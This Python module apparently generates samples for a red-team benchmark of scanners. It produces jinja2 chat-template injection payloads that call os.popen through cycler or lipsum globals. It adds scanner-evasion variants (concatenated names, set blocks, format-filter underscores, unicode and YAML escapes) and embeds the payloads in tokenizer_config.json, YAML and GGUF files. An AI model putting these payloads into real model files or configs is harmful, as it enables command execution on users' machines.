"""Chat templates that reach Python when a careless renderer (jinja2 without its sandbox) renders them.

Read from jinja2: `x[name]` is `environment.getitem`, which falls back to
getattr, so a dunder name held in a variable needs no attribute syntax; names
can be built at render time with `~`, `{% set %}...{% endset %}` blocks or the
format filter. Read from tokenizer_config.json loaders: it is JSON, so every
character of the template may be a \\u escape (no `{{` in the file's bytes).
GGUF keeps the template as the string value of `tokenizer.chat_template`.
"""

from __future__ import annotations

import json
import struct

from benchmarks.redteam.sample import PROC_CMD, Sample

F = "chat-template"
CHAT = "{% for m in messages %}<|{{ m['role'] }}|>{{ m['content'] }}\n{% endfor %}"
POPEN = f"['os'].popen('{PROC_CMD}').read()"

# The classic escape, written plainly (the baseline every scanner should catch).
STATIC = CHAT + "{{ cycler.__init__.__globals__" + POPEN + " }}"
# Dunder names concatenated into variables, then used as items.
CONCAT = (CHAT + "{% set i = '__in' ~ 'it__' %}{% set g = '__glo' ~ 'bals__' %}"
          "{{ cycler[i][g]" + POPEN + " }}")
# Names as template data inside set blocks: no string constant at all.
SET_BLOCK = (CHAT + "{% set i %}__init__{% endset %}{% set g %}__globals__{% endset %}"
             "{{ joiner[i][g]" + POPEN + " }}")
# Underscores from the format filter.
FORMAT = (CHAT + "{% set u = '%c%c'|format(95, 95) %}{% set i = u ~ 'init' ~ u %}{% set g = u ~ 'globals' ~ u %}"
          "{{ lipsum[g]" + POPEN + " }}")


def tokenizer_config(template: str, escape_all: bool = False) -> bytes:
    cfg = {"bos_token": "<s>", "eos_token": "</s>", "model_max_length": 4096, "chat_template": template}
    text = json.dumps(cfg, indent=2)
    if escape_all:
        body = "".join(f"\\u{ord(c):04x}" for c in template)
        text = text.replace(json.dumps(template), '"' + body + '"')
    return text.encode()


def tokenizer_config_delimiters_escaped(template: str) -> bytes:
    """Only the Jinja delimiters' `{` and `%` escaped, in upper-case hex (`\\u007B`, `\\u0025`)."""
    body = json.dumps(template)[1:-1].replace("{", "\\u007B").replace("%", "\\u0025")
    return ('{"bos_token": "<s>", "chat_template": "' + body + '"}').encode()


def yaml_config(template: str, style: str) -> bytes:
    """A YAML config (the shape fine-tuning tools keep a chat template in) with the template as a
    double-quoted scalar: `hex` writes every `{` and `_` as \\x7b / \\x5f; `joined` breaks the line
    inside every `{{` and `{%` with an escaped line break, which YAML removes (the file has no `{{`)."""
    body = json.dumps(template)[1:-1]
    if style == "hex":
        body = body.replace("{", "\\x7b").replace("_", "\\x5f")
    else:
        body = body.replace("{{", "{\\\n    {").replace("{%", "{\\\n    %")
    return ("base_model: tiny\nchat_template: \"" + body + "\"\n").encode()


def gguf(template: str) -> bytes:
    def string(text: str) -> bytes:
        data = text.encode()
        return struct.pack("<Q", len(data)) + data

    kvs = [("general.architecture", "llama"), ("tokenizer.chat_template", template)]
    body = b"".join(string(k) + struct.pack("<I", 8) + string(v) for k, v in kvs)
    return b"GGUF" + struct.pack("<IQQ", 3, 0, len(kvs)) + body


SAMPLES = [
    Sample("tokcfg_static_dunders", F, "render tokenizer_config.json", "process",
           "baseline: cycler.__init__.__globals__ written out", lambda: {"tokenizer_config.json": tokenizer_config(STATIC)}),
    Sample("tokcfg_concat_names_in_variables", F, "render tokenizer_config.json", "process",
           "'__in' ~ 'it__' assigned to a variable, then used as cycler[i]: no private attribute or constant item",
           lambda: {"tokenizer_config.json": tokenizer_config(CONCAT)}, fast=True),
    Sample("tokcfg_set_block_names", F, "render tokenizer_config.json", "process",
           "{% set i %}__init__{% endset %}: the dunder is template data, not a string constant",
           lambda: {"tokenizer_config.json": tokenizer_config(SET_BLOCK)}),
    Sample("tokcfg_format_filter_names", F, "render tokenizer_config.json", "process",
           "'%c%c'|format(95, 95) builds the underscores at render time",
           lambda: {"tokenizer_config.json": tokenizer_config(FORMAT)}),
    Sample("tokcfg_unicode_escaped_template", F, "render tokenizer_config.json", "process",
           "every character of the (plain, static) template is a JSON \\u escape: the file has no '{{' or '__'",
           lambda: {"tokenizer_config.json": tokenizer_config(STATIC, escape_all=True)}, fast=True),
    Sample("tokcfg_delimiters_escaped_upper", F, "render tokenizer_config.json", "process",
           "only the delimiters' '{' and '%' escaped, in upper-case hex (\\u007B, \\u0025): no '{{' or '{%' in the bytes",
           lambda: {"tokenizer_config.json": tokenizer_config_delimiters_escaped(SET_BLOCK)}),
    Sample("yaml_config_hex_escapes", F, "render YAML config", "process",
           "a YAML config whose template writes every '{' and '_' as YAML \\x escapes",
           lambda: {"config.yaml": yaml_config(STATIC, "hex")}, fast=True),
    Sample("yaml_config_joined_lines", F, "render YAML config", "process",
           "a YAML config whose template breaks the line after every '{' with an escaped line break, which "
           "yaml.safe_load removes: '{{' only exists once parsed",
           lambda: {"config.yaml": yaml_config(CONCAT, "joined")}),
    Sample("gguf_static_dunders", F, "render GGUF chat template", "process",
           "baseline: the plain escape in GGUF metadata (CVE-2024-34359)", lambda: {"model.gguf": gguf(STATIC)}),
    Sample("gguf_concat_names_in_variables", F, "render GGUF chat template", "process",
           "the concatenated-name template in GGUF metadata", lambda: {"model.gguf": gguf(CONCAT)}, fast=True),
    Sample("jinja_file_set_block_names", F, "render .jinja file", "process",
           "a standalone chat template file with names from set blocks",
           lambda: {"chat_template.jinja": SET_BLOCK.encode()}),
]
